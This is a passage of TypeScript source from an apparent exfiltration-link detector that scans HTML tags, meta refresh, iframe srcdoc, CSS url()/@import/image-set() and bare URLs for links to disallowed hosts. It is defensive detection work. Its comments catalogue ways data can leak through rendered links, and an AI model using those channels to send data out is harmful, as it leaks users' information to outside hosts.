      if (text.includes('<')) {
        for (const m of matchAll(AUTOLINK, text)) {
          if (overlaps(m.start, m.end, 2)) continue;
          const v = verdict(m.groups[0] ?? '');
          if (v !== null) push(m.start, m.end, false, v.data, 'autolink');
        }
        for (const m of htmlTagMatches(text)) {
          if (overlaps(m.start, m.end, 2)) continue;
          const tag = (m.groups[0] ?? '').toLowerCase();
          const tagText = text.slice(m.start, m.end);
          let worst: { data: boolean } | null = null;
          for (const a of matchAll(ATTR, tagText)) {
            const val = attrUrl(a.groups[1] ?? a.groups[2] ?? a.groups[3] ?? '');
            const urls = (a.groups[0] ?? '').toLowerCase() === 'srcset' ? val.split(',').map(firstWord) : [val];
            for (const u of urls) {
              const v = verdict(u);
              if (v !== null && (worst === null || v.data)) worst = v;
            }
          }
          if (tag === 'meta') {
            let refresh = false;
            let content: string | null = null;
            for (const a of matchAll(META_ATTR, tagText)) {
              const val = attrUrl(a.groups[1] ?? a.groups[2] ?? a.groups[3] ?? '');
              if ((a.groups[0] ?? '').toLowerCase() === 'content') content ??= val;
              else refresh ||= val.trim().toLowerCase() === 'refresh';
            }
            const url = refresh && content !== null ? refreshUrl(content) : null;
            const v = url === null ? null : verdict(url);
            if (v !== null && (worst === null || v.data)) worst = v;
          }
          if (tag === 'iframe' && srcdocDepth < SRCDOC_DEPTH) {
            // A srcdoc attribute is a document the frame renders, written with character references
            // (`srcdoc="&lt;img src=&quot;https://…&quot;&gt;"`): it is read as a text of its own, and a
            // finding in it is one for the frame.
            for (const a of matchAll(SRCDOC, tagText)) {
              srcdocDepth++;
              try {
                for (const f of self.scan(decodeCharRefs(a.groups[0] ?? a.groups[1] ?? a.groups[2] ?? '').text, ctx)) {
                  const data = f.explanation.includes(DATA_NOTE);
                  if (worst === null || data) worst = { data };
                }
              } finally {
                srcdocDepth--;
              }
            }
          }
          if (worst === null) continue;
          let end = m.end;
          let keep: KeepRange | undefined;
          if (tag === 'a') {
            const close = matchAll(A_CLOSE, text.slice(m.end, m.end + 1100));
            if (close.length > 0) {
              end = m.end + close[0].end;
              keep = keepOf(text, m.start, m.end, text.lastIndexOf('<', end - 1));
            }
          }
          push(m.start, end, tag !== 'a', worst.data, tag === 'a' ? 'html link' : `html ${tag}`, keep);
        }
      }
      // CSS, read wherever it is (a style attribute of any tag, a style element, SVG paint, and CSS
      // shown in a code block, as tags there are found too), after references are decoded: a style
      // attribute is decoded before CSS reads it, so `u&#114;l(` and `u&#92;72l(` are url(. A finding
      // spans the url(…) token, "@import" and its string, or an image-set(…) call, as written:
      // removed, no URL is left and the rest of the style (or the tag around it) stays; a tag spans the
      // whole tag only because its URL is an attribute value with no token of its own. An unclosed
      // url() runs to the end of its value (CSS fetches it), and one still open at the end of a text
      // longer than LINK_HOLD is reported up to LINK_HOLD before the end (as openLinkAtEnd does), also
      // before its URL has begun; so is an image-set( whose arguments are still open.
      // A text without CSS costs three indexOf passes ('&', '(' and '@'), and one for '\' when a '('
      // follows a character that can end an escaped name.
      const view = decodeCharRefs(text);
      // Where a construct still open LINK_HOLD after its start is cut: LINK_HOLD before the end, and
      // never inside a name whose rest CSS could still read as a name (the stream then waits for the
      // few units the name runs past its hold-back).
      const openCut = (m: CssMatch): number => Math.max(text.length - LINK_HOLD, m.nameEnd === undefined ? 0 : refEnd(view, m.nameEnd));
      for (const m of cssMatches(view.text, false).matches) {
        const start = refStart(view, m.start);
        if (m.kind === 'set') {
          // The image-set( call, to its ')' (or, unclosed, to its last string that names a host not
          // allowed), as a url("…") token spans its function.
          let bad = false;
          let data = false;
          let last = m.end;
          for (const x of m.strings ?? []) {
            const w = eitherVerdict(text.slice(refStart(view, x.valueStart), refEnd(view, x.valueEnd)), cssUnescape);
            if (w === null) continue;
            bad = true;
            data ||= w.data;
            last = x.end;
          }
          const end = refEnd(view, m.closed === true ? m.end : last);
          if (m.open && text.length - start > LINK_HOLD) {
            const cut = openCut(m);
            if (!overlaps(start, cut, 2)) push(start, cut, true, data, 'css image-set() still open');
          } else if (bad && !overlaps(start, end, 2)) push(start, end, true, data, 'css image-set()');
          continue;
        }
        const end = refEnd(view, m.end);
        if (overlaps(start, end, 2)) continue;
        const what = m.kind === 'url' ? 'css url()' : 'css @import';
        const value = text.slice(refStart(view, m.valueStart), refEnd(view, m.valueEnd));
        const v = eitherVerdict(value, cssUnescape);
        if (m.open && text.length - start > LINK_HOLD) {
          if (v !== null || view.text.slice(m.valueStart, m.valueEnd).trim().length === 0) push(start, openCut(m), true, v?.data ?? false, `${what} still open`);
        } else if (v !== null) push(start, end, true, v.data, what);
      }
      if (cfg.bareUrls) {
        for (const m of bareUrlMatches(text)) {
          if (overlaps(m.start, m.end)) continue;
          let end = m.end;
          while (end > m.start && '.,;:!?'.includes(text[end - 1])) end--; // sentence punctuation
          const v = verdict(text.slice(m.start, end));
          if (v !== null && !imagesOnly) {
            out.push({ detector: cfg.id, type: 'EXFIL_LINK', start: m.start, end, score: v.data ? 0.5 : 0.3, explanation: `bare url${v.data ? DATA_NOTE : ''}, host not allowed` });
            taken.push([m.start, end], 2);
          }
        }
      }
      const open = text.length > LINK_HOLD ? openLinkAtEnd(text, md ?? markdownView(text), mdVerdict, htmlVerdict, ctx.midText !== true) : null;
      if (open !== null && text.length - LINK_HOLD > open.start && !overlaps(open.start, open.start + 1)) {
        push(open.start, open.end ?? text.length - LINK_HOLD, open.image, open.data, open.what);
      }
      out.sort((a, b) => a.start - b.start || b.end - a.end);
      return out;
    },
  };
  return self;
}
